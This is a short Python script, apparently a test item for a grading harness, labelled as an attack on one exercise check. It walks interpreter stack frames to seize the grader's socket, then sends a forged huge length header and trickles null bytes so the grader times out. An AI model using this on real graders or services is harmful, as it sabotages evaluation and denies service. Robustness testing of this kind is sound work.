# attack: sends an endless answer, one byte at a time
# exercise: ex01_map_dataset
# check: ex01.tabular.len
# slow: uses up the time for an answer
import sys
import time

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "sock"):
    frame = frame.f_back
server = frame.f_locals["self"]
print("TRIED", flush=True)
server.sock.sendall((64 << 20).to_bytes(4, "little"))
for _ in range(200_000):
    server.sock.sendall(b"\0")
    time.sleep(0.0001)
